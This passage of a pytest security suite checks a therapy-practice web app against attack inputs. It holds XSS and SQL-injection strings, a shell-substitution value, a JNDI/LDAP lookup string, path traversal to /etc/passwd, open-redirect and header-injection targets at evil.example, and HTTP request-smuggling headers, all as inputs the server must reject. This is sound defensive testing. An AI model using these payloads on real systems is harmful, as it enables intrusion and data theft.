    form = head("POST /sign-in HTTP/1.1", "Content-Type: application/x-www-form-urlencoded", "Content-Length: 900")
    begun = time.monotonic()
    said, _ = exchange(strict, form + b"mail=", seconds=5)
    assert said.startswith(b"HTTP/1.1 408") and time.monotonic() - begun < 8
    assert strict.is_alive()


def test_one_address_sends_only_so_much(strict):
    visitor = strict.visitor()
    answers = [visitor.get("/health") for _ in range(25)]
    stopped = [answer for answer in answers if answer.status == 429]
    assert answers[0].status == 200 and stopped and int(stopped[0].header("Retry-After")) > 0
    assert strict.visitor().get("/health").status == 200, "another address is not stopped"
    assert visitor.get("/health", {"X-Forwarded-For": "203.0.113.77"}).status == 429
    for name, value in POLICY.items():
        assert value in (stopped[0].header(name) or ""), f"429 without {name}"


def test_https_is_kept_where_there_is_https(strict, town):
    assert "max-age=" in strict.visitor().get("/sign-in").header("Strict-Transport-Security")
    assert Visitor(town.house.port).get("/sign-in").header("Strict-Transport-Security") is None
    assert strict.visitor().form("/sign-in", {"mail": "a" * 3000}, csrf=False).status == 413


@pytest.mark.parametrize(
    "data",
    [
        head("GET / HTTP/1.1", "X: " + "a" * 100_000),
        head("GET / HTTP/1.1", *(f"X{i}: y" for i in range(2000))),
        head("GET /" + "a" * 200_000 + " HTTP/1.1"),
        head("BREW / HTTP/1.1", "Connection: close"),
        head("TRACE / HTTP/1.1", "Connection: close", "X-Secret: mirrored"),
        head("CONNECT evil:1 HTTP/1.1", "Connection: close"),
        head("DELETE / HTTP/1.1", "Connection: close"),
        head("GET /\x01 HTTP/1.1"),
        head("GET / HTTP/9.9"),
        b"GET / HTTP/0.9\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        head("GET / HTTP/1.1", "X: a\x00b"),
        head("GET / HTTP/1.1", " folded: y"),
        head("GET / HTTP/1.1", "X : y"),
        b"\x00" * 5000,
    ],
    ids=range(16),
)
def test_what_is_no_request_of_ours_is_refused(town, data):
    said, closed = exchange(town.house, data, 2)
    assert b"mirrored" not in said and (closed or said)
    assert not said or 400 <= int(said.split()[1]) < 500, said[:100]
    assert town.house.is_alive()


@pytest.mark.parametrize(
    "lines, body",
    [
        (["Content-Length: 4", "Transfer-Encoding: chunked"], b"0\r\n\r\n"),
        (["Transfer-Encoding: chunked", "Content-Length: 4"], b"0\r\n\r\n"),
        (["Content-Length: 2", "Content-Length: 5"], b"{}"),
        (["Content-Length: 2, 5"], b"{}"),
        (["Content-Length: -2"], b"{}"),
        (["Content-Length: +2"], b"{}"),
        (["Content-Length: 0x2"], b"{}"),
        (["Content-Length: " + "9" * 30], b"{}"),
        (["Content-Length : 2"], b"{}"),
        (["Transfer-Encoding: chunked"], b"FFFFFFFFFFFFFFFFF\r\n{}\r\n0\r\n\r\n"),
        (["Transfer-Encoding: chunked"], b"-1\r\n{}\r\n0\r\n\r\n"),
        (["Transfer-Encoding: chunked"], b"xyz\r\n{}\r\n0\r\n\r\n"),
        (["Transfer-Encoding: chunked"], b"2\r\n{}x\r\n0\r\n\r\n"),
        (["Transfer-Encoding: xchunked"], b"2\r\n{}\r\n0\r\n\r\n"),
        (["Transfer-Encoding: chunked, identity"], b"2\r\n{}\r\n0\r\n\r\n"),
        (["Transfer-Encoding : chunked"], b"0\r\n\r\n"),
        (["Transfer-Encoding: chunked", "Transfer-Encoding: identity"], b"0\r\n\r\n"),
        (["Transfer-Encoding:\x0bchunked"], b"0\r\n\r\n"),
        (["X: y\r\n Content-Length: 2"], b"{}"),
    ],
    ids=range(19),
)
def test_no_request_is_smuggled_behind_another(town, lines, body):
    for path in ("/sign-in", "/nowhere"):
        said, _ = exchange(town.house, head(f"POST {path} HTTP/1.1", *lines) + body + head("GET /health HTTP/1.1"), 2)
        assert b"ready" not in said, "the second request was answered"
        assert said == b"" or 400 <= int(said.split()[1]) < 500, said[:100]
    assert town.house.is_alive()


def test_many_half_open_connections_do_not_stop_others(town):
    lines = [socket.create_connection(("127.0.0.1", town.house.port)) for _ in range(150)]
    for line in lines:
        line.sendall(b"POST /sign-in HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    begun = time.monotonic()
    assert town.anna.visitor.copy().get("/clients").status == 200 and time.monotonic() - begun < 2
    for line in lines:
        line.close()


# 6. Injection

ODD = {
    "script": "<script>alert(1)</script>",
    "attribute": '" autofocus onfocus="alert(1)',
    "single": "' onload='x",
    "template": "{{#menu}}{{{heading}}}{{/menu}}{{> office}}",
    "sql": "x'); DROP TABLE client;--",
    "like": "100%_",
    "formula": '=HYPERLINK("http://evil")',
    "emoji": "👩‍⚕️🦴",
    "marks": "Z̷̖̈́a̴l̶g̴o̸",
    "svg": "<svg/onload=alert(1)>",
    "entity": "&lt;b&gt;&#60;",
    "path": "../../etc/passwd",
    "url": "javascript:alert(1)",
    "shell": "$(id)`id`;id",
    "log": "%n%s${jndi:ldap://evil}",
}


@pytest.mark.parametrize("kind", ODD)
def test_odd_words_are_kept_as_they_are_and_never_run(town, kind):
    word, anna = ODD[kind], town.anna.visitor
    fields = {"name": word, "phone": word[:40], "note": word + "\n" + word, "therapist": town.anna.id}
    by_api = anna.api("POST", "/api/clients", fields, {"Idempotency-Key": str(uuid.uuid4())})
    assert by_api.status == 201 and by_api.json["name"] == word and by_api.json["note"] == fields["note"]
    by_form = anna.form("/clients", {**fields, "key": str(uuid.uuid4())})
    assert by_form.status == 303
    numbers = [by_api.json["id"], by_form.header("Location").split("/")[-1]]
    pages = [anna.get(path) for number in numbers for path in (f"/clients/{number}", f"/clients/{number}/edit")]
    pages += [anna.get("/clients"), town.owner.visitor.get("/clients?q=" + kind)]
    for page in pages:
        raw = page.body.decode()
        assert page.status == 200
        assert word not in raw or not set(word) & set("<>\"'&"), "not escaped"
        assert "<script>" not in raw and "onload=alert" not in raw.replace("&", "") or "&lt;svg" in raw
        assert raw.count("<script") == 1 and 'onfocus="' not in raw
    assert all(word in page.text for page in pages[:4])


@pytest.mark.parametrize(
    "field, value",
    [
        ("name", ""),
        ("name", " "),
        ("name", "a" * 10_000),
        ("name", "a\x00b"),
        ("name", "a\nb"),
        ("name", "\u202eevil"),
        ("name", "\u2066x"),
        ("name", "\x1b[31m"),
        ("name", "\x85"),
        ("note", "a\x00b"),
        ("note", "a" * 20_001),
        ("note", "\u202ex"),
        ("phone", "1" * 41),
        ("phone", "1\n2"),
        ("mail", "x"),
        ("mail", "a@b.example\r\nBcc: c@d.example"),
        ("mail", "a@b@c.example"),
        ("mail", "<a@b.example>"),
        ("mail", "a" * 300 + "@b.example"),
        ("born", "2020-02-30"),
        ("born", "１９８０-01-01"),
        ("born", "0000-01-01"),
        ("born", "1980-1-1"),
        ("therapist", "x"),
        ("therapist", NOWHERE),
    ],
)
def test_wrong_values_name_their_field(town, field, value):
    fields, anna = {"name": "Fine Name", "therapist": town.anna.id} | {field: value}, town.owner.visitor
    answer = anna.api("POST", "/api/clients", fields, {"Idempotency-Key": str(uuid.uuid4())})
    assert answer.status == 422 and answer.json["error"]["field"] == field
    answer = anna.form("/clients", {**fields, "key": str(uuid.uuid4())})
    assert answer.status == 422 and f'id="f-{field}-error"' in answer.body.decode()


@pytest.mark.parametrize(
    "fields",
    [
        {"practice_name": "a\x00b"},
        {"practice_name": ""},
        {"address": "a\x00"},
        {"time_zone": "../../../etc/passwd"},
        {"time_zone": "Europe/Berlin\x00"},
        {"time_zone": "x" * 5000},
    ],
    ids=str,
)
def test_wrong_settings_are_refused(town, fields):
    same = practice_fields(town, Actor("owner", None, town.owner), None, True)
    answer = town.owner.visitor.form("/practice", same | fields)
    assert answer.status == 422 and "Please look at this again" in answer.text


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000,
        b'{"name":' * 100_000,
        b'{"name":1e999}',
        b'{"name":"x","version":' + b"9" * 400 + b"}",
        b"",
        b"null",
        b"[]",
        b'"x"',
        b"\xff\xfe",
        b'{"name":"\\ud800"}',
        b'{"name":["x"]}',
        b'{"name":"x"',
        b'{"name":"x","note":5}',
        b"{}" * 50_000,
    ],
    ids=range(14),
)
def test_what_is_no_client_is_refused(town, body):
    answer = town.anna.visitor.api("POST", "/api/clients", body, {"Idempotency-Key": str(uuid.uuid4())})
    assert answer.status in (400, 422) and answer.json["error"]["problem"]
    tag = town.anna.visitor.api("GET", f"/api/clients/{town.cases['mine'].id}").header("ETag")
    answer = town.anna.visitor.api("PUT", f"/api/clients/{town.cases['mine'].id}", body, {"If-Match": tag})
    assert answer.status in (400, 422) and town.house.is_alive()


@pytest.mark.parametrize(
    "tag",
    [
        "",
        '""',
        '"',
        "*",
        '"x"',
        '"99999999999999999999"',
        '"9223372036854775807"',
        '"-9223372036854775808"',
        '"0"',
        '"1',
        "1",
        'W/"1"',
        '"1","2"',
        '"1.0"',
        '"1e0"',
        '"\x01"',
        '"\u0661"',
        None,
    ],
    ids=repr,
)
def test_a_change_needs_the_tag_of_what_was_read(town, tag):
    case = town.cases["yours"]
    before = town.bert.visitor.api("GET", f"/api/clients/{case.id}").body
    headers = {"If-Match": tag.encode() if tag is not None else None}
    try:
        answer = town.bert.visitor.api("PUT", f"/api/clients/{case.id}", {"name": "Hacked"}, headers)
        assert answer.status in (400, 412, 428)
    except http.client.HTTPException:
        pass
    form = {"version": tag or "", "name": "Hacked", "therapist": ""}
    if tag != "1":
        assert town.bert.visitor.form(f"/clients/{case.id}", form).status in (412, 422)
    assert town.bert.visitor.api("GET", f"/api/clients/{case.id}").body == before


@pytest.mark.parametrize("tag", ["", '"0"', "x" * 5000, '"', 'W/"1"', "\x7f", None], ids=repr)
def test_odd_tags_read_the_record_as_it_is(town, tag):
    path = f"/api/clients/{town.cases['yours'].id}"
    answer = town.bert.visitor.api("GET", path, headers={"If-None-Match": tag})
    assert answer.status == 400 or answer.status == 200 and answer.json["name"]


@pytest.mark.parametrize(
    "query",
    [
        "%",
        "%zz",
        "%00",
        "%C3%28",
        "%ED%A0%80",
        "a" * 5000,
        "+".join(f"w{i}" for i in range(900)),
        "'%20OR%201=1--",
        "%25%25",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&q=x&q=y&&==",
        "%F0%9F%A6%B4",
    ],
)
def test_odd_queries_find_nothing_and_harm_nothing(town, query):
    for path in ("/clients?q=", "/api/clients?q=", "/audit?before=", "/sign-in?next=", "/join?t=", "/muscles?q=", "/?"):
        answer = town.owner.visitor.get(path + query)
        assert answer.status in (200, 303, 400, 404), (path, answer.status)
        assert b"<script>alert" not in answer.body or answer.header("Content-Type").startswith("application/json")


@pytest.mark.parametrize(
    "before", ["99999999999999999999", "-1", "9223372036854775807", "-9223372036854775808", "0", "x", "1e3"]
)
def test_the_audit_page_reads_any_number(town, before):
    assert town.owner.visitor.get(f"/audit?before={before}").status == 200


@pytest.mark.parametrize("sent, shown", [("100%25", "100%"), ("a%2Bb", "a+b"), ("a+b", "a b"), ("%2541", "%41")])
def test_a_query_is_decoded_once(town, sent, shown):
    text = town.owner.visitor.get(f"/clients?q={sent}").text
    assert re.search(r'name="q"[^>]* value="([^"]*)"', text)[1] == shown


@pytest.mark.parametrize(
    "target",
    [
        "//evil.example",
        "///evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "https:evil.example",
        "https://evil.example",
        "evil.example",
        "javascript:alert(1)",
        "/\t/evil.example",
        "/\n/evil.example",
        "/\r\n/evil.example",
        "\t//evil.example",
        " //evil.example",
        "/clients\r\nSet-Cookie: a=b",
        "/\x00/evil.example",
        "/" + "a" * 5000,
        "data:text/html,x",
        "/\x0b/evil.example",
    ],
    ids=repr,
)
def test_signing_in_leads_nowhere_else(town, target):
    visitor = town.anna.visitor.copy()
    visitor.cookies.pop("__Host-tautband")
    answer = visitor.form("/sign-in", {"mail": town.anna.mail, "password": PASSWORD, "next": target}, csrf=False)
    place = answer.header("Location")
    # Browsers drop tabs and line ends and read a backslash as a slash.
    plain = re.sub(r"[\t\r\n]", "", place).strip().replace("\\", "/")
    assert (
        answer.status == 303
        and re.match(r"/(?!/)", plain)
        and "evil" not in plain.split("?")[0].lstrip("/").split("/")[0]
    )
    assert not any(name in ("a", "Set-Cookie") for name, _ in answer.cookies)
    assert re.fullmatch(r"[\x21-\x7e]+", place), "a Location has visible ASCII alone"


@pytest.mark.parametrize(
    "back",
    ["/team/\r\nX-Evil: 1", "/team/\t/x", "//evil.example/team/", "/team/\\evil", "https://evil.example"],
    ids=repr,
)
def test_ending_a_session_leads_nowhere_else(town, back):
    fresh_sessions(town, None)
    number = str(uuid.uuid5(uuid.NAMESPACE_URL, "anna"))
    answer = town.owner.visitor.form(f"/account/sessions/{number}/end", {"back": back})
    place = answer.header("Location")
    assert answer.status == 303 and answer.header("X-Evil") is None
    assert place == "/account" or re.fullmatch(r"/team/[\x21-\x5b\x5d-\x7e]*", place)


@pytest.mark.parametrize(
    "path",
    [
        "/assets/../templates/office.mustache",
        "/assets/..%2ftemplates%2foffice.mustache",
        "/assets/%2e%2e/%2e%2e/etc/passwd",
        "/assets/..%5c..%5cetc",
        "/assets//etc/passwd",
        "/assets/app.css%00.js",
        "/assets/templates",
        "/assets/.",
        "/assets/%",
        "/../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/.git/config",
        "/keys.json",
        "/tautband.sqlite",
        "/assets/%252e%252e%252f",
    ],
)
def test_files_beside_the_assets_are_out_of_reach(town, path):
    answer = town.house.visitor().get(path)
    assert answer.status == 404 and b"root:" not in answer.body and b"{{" not in answer.body


def test_forms_with_odd_shapes_are_refused_or_read(town):
    anna, kind = town.anna.visitor, {"Content-Type": "application/x-www-form-urlencoded"}
    for body in (
        b"",
        b"=",
        b"csrf",
        b"%zz=1",
        b"csrf=%ff",
        b"&&&",
        b"a=b" + b"&a=b" * 50_000,
        b"\xff\xfe",
        b"csrf[]=x",
    ):
        assert anna.send("POST", "/clients", body, kind).status in (400, 403, 413)
    assert (
        anna.send("POST", "/clients", b"csrf=" + anna.csrf.encode(), {"Content-Type": "multipart/form-data"}).status
        == 415
    )
    assert town.house.is_alive()


def test_an_odd_host_does_not_lead_links_away(strict, town):
    """Without a public address links begin with what the browser used; with one they do not."""
    owner = Person("owner", 1, "Strict Owner", "strict@staff.example")
    strict.open_practice(strict.setup, "Strict", owner)
    evil = {"Host": "evil.example", "Origin": "http://evil.example"}
    fields = {"name": "A B", "mail": "ab@new.example", "role": "therapist", "csrf": owner.visitor.csrf}
    answer = owner.visitor.form("/team/invite", fields, headers=evil)
    assert answer.status == 403 or "https://clinic.example/join?t=" in answer.text and "evil.example" not in answer.text


# 7. Headers


def test_every_answer_carries_the_protecting_headers(town):
    anna, anonymous, case = town.anna.visitor, town.house.visitor(), town.cases["mine"]
    tag = anna.api("GET", f"/api/clients/{case.id}").header("ETag")
    style = anonymous.get("/assets/app.css").header("ETag")
    personal = {
        "page": anna.get("/clients"),
        "record": anna.get(f"/clients/{case.id}"),
        "json": anna.api("GET", f"/api/clients/{case.id}"),
        "unchanged": anna.api("GET", f"/api/clients/{case.id}", headers={"If-None-Match": tag}),
        "list": anna.get("/api/clients"),
        "account": anna.get("/account"),
        "factor": anna.get("/account/second-factor"),
        "refused": anna.get("/audit"),
        "anonymous": anonymous.get("/clients"),
        "plain anonymous": anonymous.get("/api/clients", {}),
        "wrong": anna.form("/clients", {"name": ""}),
        "no token": anna.form("/clients", {"csrf": "x"}),
        "stale": anna.api("PUT", f"/api/clients/{case.id}", {"name": "x"}, {"If-Match": '"0"'}),
        "no tag": anna.api("PUT", f"/api/clients/{case.id}", {"name": "x"}),
        "team": anna.get("/team"),
        "own record": town.clara.visitor.get("/my-record"),
        "audit": town.owner.visitor.get("/audit"),
        "backup": town.owner.visitor.get("/backup"),
        "practice": town.owner.visitor.get("/practice"),
        "join": anonymous.get(f"/join?t={town.invitation(town.owner)[1]}"),
        "no link": anonymous.get("/join?t=x"),
        "signed in": anna.form("/sign-in", {"mail": "x@y.example", "password": "x"}, csrf=False, keep=False),
        "other site": anna.form("/clients", headers={"Origin": "https://evil.example"}),
    }
    public = {
        "start": anonymous.get("/"),
        "style": anonymous.get("/assets/app.css"),
        "icon": anonymous.get("/favicon.ico"),
        "style unchanged": anonymous.get("/assets/app.css", {"If-None-Match": style}),
        "missing": anonymous.get("/nowhere"),
        "health": anonymous.get("/health"),
        "live": anonymous.get("/health/live"),
        "knowledge": anonymous.get("/muscles"),
        "moved": anonymous.get("/viscera"),
        "large": anonymous.api("POST", "/sign-in", b"a" * 1_200_000),
        "method": anonymous.send("DELETE", "/"),
        "head": anonymous.send("HEAD", "/"),
        "file": anonymous.get("/assets/none"),
    }
    assert personal["unchanged"].status == public["style unchanged"].status == 304
    faults = []
    for name, answer in {**personal, **public}.items():
        faults += [
            f"{name} ({answer.status}): no {header}"
            for header, value in POLICY.items()
            if value not in (answer.header(header) or "")
        ]
        policy = answer.header("Content-Security-Policy") or ""
        faults += [f"{name}: loose policy" for loose in ("unsafe", "*", "http:") if loose in policy]
        faults += [
            f"{name}: says {answer.header('Server')}"
            for _ in answer.all("Server")
            if re.search(r"\d", answer.header("Server"))
        ]
        faults += [f"{name}: opens to other origins" for _ in answer.all("Access-Control-Allow-Origin")]
        if name in personal and answer.header("Cache-Control") != "no-store":
            faults.append(f"{name} ({answer.status}): may be kept, Cache-Control {answer.header('Cache-Control')}")
        if answer.body and not answer.header("Content-Type"):
            faults.append(f"{name}: no Content-Type")
    assert not faults, "\n".join(faults)


# 9. Links


def flow(purpose, town):
    """Path, fields and the answer of a link that works, and a token of this purpose."""
    owner, anna = town.owner.visitor, town.anna.visitor
    secret = {"password": "eight quiet moles dig", "name": "Link User"}
    if purpose == "invitation":
        return "/join", secret, 303, town.invitation(town.owner, "Onceuser", uuid.uuid4().hex[:8])[1]
    if purpose == "setup":
        more = {"practice_name": "Once", "time_zone": "UTC", "mail": "once@setup.example"}
        return "/setup", {**secret, **more}, 303, town.house.run("link", "--another-practice").strip().split("?t=")[1]
    if purpose == "password":
        return "/password", secret, 303, owner.form(f"/team/{town.dora.id}/password-link").token
    words = {"text": f"Once written {uuid.uuid4()}"}
    if purpose == "diary":
        return "/diary", {**words, "day": time.strftime("%Y-%m-%d", time.gmtime()), "pain": "3"}, 200, diary_link(town)
    return "/intake", words, 200, anna.form(f"/clients/{town.cases['mine'].id}/link").token


@pytest.mark.parametrize("purpose", ["setup", "invitation", "password", "intake"])
def test_a_link_works_once_however_many_try(town, purpose):
    path, fields, answer, token = flow(purpose, town)
    town.house.secrets.add(token)
    visitors = [Visitor(town.house.port) for _ in range(20)]
    with concurrent.futures.ThreadPoolExecutor(20) as pool:
        statuses = list(pool.map(lambda one: one.form(path, {**fields, "t": token}, csrf=False).status, visitors))
    # Under load the hashing of passwords asks to wait; whoever waited finds the link used.
    assert statuses.count(answer) == 1 and set(statuses) <= {answer, 404, 429}, statuses
    assert visitors[0].get(f"{path}?t={token}").status == 404
    assert visitors[0].form(path, {**fields, "t": token}, csrf=False).status == 404
    if "text" in fields:
        assert town.anna.visitor.get(f"/clients/{town.cases['mine'].id}").text.count(fields["text"]) == 1


def test_a_diary_link_works_each_day_and_keeps_one_text_a_day(town):
    path, fields, answer, token = flow("diary", town)
    client, case = Visitor(town.house.port), town.cases["mine"]
    for pain in ("3", "5"):
        page = client.form(path, {**fields, "t": token, "pain": pain}, csrf=False)
        assert page.status == answer and case.name not in page.text and case.note not in page.text
    where = f"/api/clients/{case.id}/entries?kinds=diary&complaint={case.complaint}"
    kept = [one["body"] for one in town.anna.visitor.api("GET", where).json["entries"]]
    assert [one["pain"] for one in kept if one["day"] == fields["day"]] == [5]
    for wrong in ({"day": "2199-01-01"}, {"day": "1999-01-01"}, {"day": "x"}, {"pain": "11"}, {"x_stress": "many"}):
        assert client.form(path, {**fields, "t": token, **wrong}, csrf=False).status == 422


def test_altered_links_open_nothing(town):
    path, fields, _, token = flow("diary", town)
    version, payload, mac = token.split(".")
    later = base64.urlsafe_b64decode(payload + "==").decode().rsplit(":", 1)[0] + ":9999999999"
    forged = base64.urlsafe_b64encode(later.encode()).decode().rstrip("=")
    for other in (
        token[:-1],
        token + "A",
        token + "=",
        token.upper(),
        f"{version}.{forged}.{mac}",
        f"{version}.{payload}.",
        payload,
        f"{version}.{payload}.{'A' * 43}",
        f"v2.{payload}.{mac}",
        token + "\n",
        token + "\x00",
        f"{token}.{mac}",
        "v1..",
        "..",
    ):
        for known in LINKS:
            assert Visitor(town.house.port).get(f"{known}?t={quote(other)}").status == 404
            answer = Visitor(town.house.port).form(
                known, {**fields, "t": other, "password": PASSWORD, "name": "x y"}, csrf=False
            )
            assert answer.status == 404, (known, other)
    assert Visitor(town.house.port).get(f"{path}?t={token}").status == 200


def test_a_link_out_of_date_or_taken_back_opens_nothing(town):
    path, fields, _, token = flow("diary", town)
    town.house.change("UPDATE ticket SET expires = 1 WHERE used IS NULL AND purpose = 'diary'")
    assert Visitor(town.house.port).form(path, {**fields, "t": token}, csrf=False).status == 404
    number, token = town.invitation(town.owner, "Takenback", "takenback")
    assert Visitor(town.house.port).get(f"/join?t={token}").status == 200
    assert town.owner.visitor.form(f"/team/invitations/{number}/revoke").status == 303
    assert Visitor(town.house.port).get(f"/join?t={token}").status == 404


def test_a_weak_password_keeps_the_link(town):
    _, fields, _, token = flow("invitation", town)
    for weak in ("short", "passwordpassword", "a" * 20, fields["name"] * 2):
        answer = Visitor(town.house.port).form("/join", {**fields, "t": token, "password": weak}, csrf=False)
        assert (
            answer.status == 422
            and "f-password-error" in answer.text
            and weak not in answer.text.replace(fields["name"], "")
        )
    assert Visitor(town.house.port).get(f"/join?t={token}").status == 200


def test_an_invitation_cannot_take_another_address_or_role(town):
    _, fields, _, token = flow("invitation", town)
    more = {"role": "owner", "mail": town.owner.mail, "client": town.cases["mine"].id, "practice": "x"}
    visitor = Visitor(town.house.port)
    assert visitor.form("/join", {**fields, **more, "t": token}, csrf=False).status == 303
    assert visitor.get("/audit").status == 404 and visitor.get("/clients").status == 200
    account = visitor.get("/account").text
    assert town.owner.mail not in account and "Therapist" in account


# 10. The desk: links in mails, evidence, and what a practice books


LINK_PAGES = {
    "/visit": "visit", "/visit/move": "visit", "/visit.ics": "visit", "/wait": "wait", "/experience": "experience",
    "/newsletter/confirm": "newsletter", "/newsletter/leave": "newsletter", "/intake": "form",
}
LINK_FORMS = {
    "/visit/confirm": "visit", "/visit/cancel": "visit", "/visit/move": "visit", "/visit/reminders": "visit",
    "/wait/confirm": "wait", "/wait/leave": "wait", "/experience": "experience",
    "/experience/withdraw": "experience", "/newsletter/confirm": "newsletter", "/newsletter/leave": "newsletter",
    "/intake": "form",
}


def changed(token):
    """A link altered in every way."""
    version, payload, mac = token.split(".")
    words = base64.urlsafe_b64decode(payload + "==").decode()
    later = base64.urlsafe_b64encode((words.rsplit(":", 1)[0] + ":9999999999").encode()).decode().rstrip("=")
    other = base64.urlsafe_b64encode(words.replace(":", ":0", 1).encode()).decode().rstrip("=")
    yield from (token[:-1], token + "A", token + "=", token.upper(), f"{version}.{later}.{mac}", payload)
    yield from (f"{version}.{other}.{mac}", f"{version}.{payload}.", f"v2.{payload}.{mac}", token + "\n", "..", "v1..")


@pytest.mark.parametrize("path", LINK_PAGES)
def test_an_altered_link_of_a_mail_opens_nothing(town, path):
    visitor, token = Visitor(town.house.port), town.stands["here"].tokens[LINK_PAGES[path]]
    assert visitor.get(f"{path}?t={token}").status == 200
    for other in changed(token):
        assert visitor.get(f"{path}?t={quote(other)}").status == 404, other
    assert visitor.get(path).status == 404


@pytest.mark.parametrize("path", LINK_FORMS)
def test_an_altered_link_of_a_mail_changes_nothing(town, path):
    visitor, token = Visitor(town.house.port), town.stands["there"].tokens[LINK_FORMS[path]]
    fields = {"start": "2027-01-01T10:00:00Z", "text": "Hacked", "rating": "1", "reminders": "off"}
    before = state(town, Thing("none", ""))
    for other in changed(token):
        assert visitor.form(path, {**fields, "t": other}, csrf=False).status == 404, other
    # Another site's page cannot send it either, though no cookie is needed.
    for headers in ({"Origin": "https://evil.example"}, {"Sec-Fetch-Site": "cross-site"}, {"Origin": "null"}):
        assert visitor.form(path, {**fields, "t": token}, csrf=False, headers=headers).status == 403
    assert state(town, Thing("none", "")) == before


def test_a_link_of_a_mail_opens_one_thing_and_no_record(town):
    stand, visitor = town.stands["here"], Visitor(town.house.port)
    other = town.stands["there"]
    words = [stand.form, stand.client, stand.mail, stand.waiter, stand.case.name, stand.case.note, other.name]
    for path, purpose in LINK_PAGES.items():
        if path == "/visit.ics":
            continue
        page = visitor.get(f"{path}?t={stand.tokens[purpose]}")
        assert [word for word in words if word in page.text] == [], path
        # Who told of a visit sees the own words, and nobody else does.
        assert (stand.told in page.text) <= (purpose == "experience"), path
        assert page.header("Cache-Control") == "no-store" and page.header("Referrer-Policy") == "no-referrer"
        assert not page.cookies, path
    # Holding a link is no session.
    for path in ("/clients", f"/clients/{stand.case.id}", "/calendar", f"/calendar/{stand.appointment}", "/desk"):
        for visited in (visitor, Visitor(town.house.port)):
            visited.cookies["__Host-tautband-known"] = stand.tokens["known"]
            assert visited.get(path).status == 303
    assert visitor.get(f"/clients/{stand.case.id}?t={stand.tokens['visit']}").status == 303


def test_a_link_of_a_mail_ends(town):
    """The form until the visit, the appointment's page until a month after it."""
    stand, visitor = town.stands["own"], town.house.visitor()
    visitor.cookies["__Host-tautband-known"] = stand.tokens["known"]
    fields = stand.booking(visitor, 50)
    booked = visitor.form(f"/book/{stand.service}", fields, csrf=False)
    token = booked.header("Location").split("?t=")[1]
    number = base64.urlsafe_b64decode(token.split(".")[1] + "==").decode().split(":")[1]

    def shift(days):
        names = ("starts", "ends", "blocked_from", "blocked_until")
        changes = ", ".join(f"{name} = {name} - {days * 86400}" for name in names)
        town.house.change(f"UPDATE appointment SET {changes} WHERE id = ?", number)

    shift(20)
    form = re.search(r"/intake\?t=([^\"]+)", visitor.get(f"/visit?t={token}").text)[1]
    assert Visitor(town.house.port).get(f"/intake?t={form}").status == 404
    assert visitor.form("/intake", {"t": form, "text": "Late"}, csrf=False).status == 404
    shift(40)
    late = visitor.form(f"/book/{stand.service}", fields, csrf=False).header("Location").split("?t=")[1]
    for path in ("/visit", "/visit.ics", "/visit/move"):
        assert visitor.get(f"{path}?t={late}").status == 404, path
    assert visitor.form("/visit/confirm", {"t": late}, csrf=False).status == 404
    town.house.change("UPDATE appointment SET status = 'cancelled' WHERE id = ?", number)


def test_a_form_sent_again_gives_nobody_the_link(town):
    """Whoever typed somebody's address does not get in once that somebody has confirmed."""
    stand, stranger = town.stands["own"], town.house.visitor()
    fields = stand.booking(stranger, 55, mail="victimqz@booked.example")
    assert stranger.form(f"/book/{stand.service}", fields, csrf=False).status == 200
    town.house.change("UPDATE appointment SET status = 'booked', hold_ends = NULL WHERE status = 'held'")
    again = stranger.form(f"/book/{stand.service}", fields, csrf=False)
    assert again.status == 200 and "t=" not in (again.header("Location") or ""), again.header("Location")


def test_one_key_books_once_and_only_the_same(town):
    stand, visitor = town.stands["own"], town.house.visitor()
    visitor.cookies["__Host-tautband-known"] = stand.tokens["known"]
    fields = stand.booking(visitor, 60)
    count = "SELECT count(*) FROM appointment"
    [[before]] = town.house.change(count)
    with concurrent.futures.ThreadPoolExecutor(10) as pool:
        sent = list(pool.map(
            lambda _: visitor.copy().form(f"/book/{stand.service}", fields, csrf=False).status, range(20)
        ))
    assert set(sent) == {303} and town.house.change(count) == [(before + 1,)]
    other = visitor.form(f"/book/{stand.service}", fields | {"name": "Somebody Else"}, csrf=False)
    assert other.status in (409, 422) and not other.header("Location")


def test_of_many_who_want_one_time_one_gets_it(town):
    stand = town.stands["own"]
    visitors = [town.house.visitor() for _ in range(12)]
    fields = [stand.booking(one, 65, mail=f"many{number}@booked.example") for number, one in enumerate(visitors)]
    with concurrent.futures.ThreadPoolExecutor(12) as pool:
        sent = list(pool.map(
            lambda pair: pair[0].form(f"/book/{stand.service}", pair[1], csrf=False).status, zip(visitors, fields)
        ))
    assert sorted(sent) == [200] + [409] * 11


def test_the_cookie_of_a_known_booker_is_protected_and_opens_nothing(town):
    stand, visitor = town.stands["here"], town.house.visitor()
    answer = visitor.form("/visit/confirm", {"t": stand.tokens["visit"]}, csrf=False)
    [cookie] = answer.all("Set-Cookie")
    for part in ("__Host-tautband-known=", "Secure", "HttpOnly", "Path=/", "SameSite="):
        assert part.lower() in cookie.lower()
    assert visitor.get("/account").status == 303
    # It proves one address, no other.
    fields = stand.booking(visitor, 70, mail="other@booked.example")
    assert visitor.form(f"/book/{stand.service}", fields, csrf=False).status == 200


@pytest.mark.parametrize("what", ["checked", "waiting_training"])
def test_documents_are_handed_out_as_files_alone(town, what):
    stand = town.stands["here"]
    for visitor in (stand.therapist.visitor, town.owner.visitor, town.stew.visitor):
        answer = visitor.get(f"/training/documents/{getattr(stand, what)}")
        assert answer.status == 200 and answer.body == stand.document
        assert answer.header("Content-Type") == "application/octet-stream"
        assert answer.header("Content-Disposition").startswith("attachment; filename=")
        assert answer.header("Cache-Control") == "no-store"
        assert answer.header("X-Content-Type-Options") == "nosniff"
        assert "inline" not in str(answer.headers)


def test_what_is_no_document_is_refused(town):
    stand = town.stands["here"]
    desk = stand.therapist.visitor
    for content in (b"<script>alert(1)</script>", b"GIF89a", b" %PDF-1.4", b"<svg onload=x>", b"PK\x03\x04", b"M"):
        sent = desk.multipart(f"/training/{stand.practitioner}", stand.training_fields, {"document": content})
        assert sent.status == 422 and "f-document-error" in sent.text, content
    large = b"%PDF-" + b"x" * (5 * 1024 * 1024)
    sent = desk.multipart(f"/training/{stand.practitioner}", stand.training_fields, {"document": large})
    assert sent.status in (413, 422)
    odd = desk.multipart(
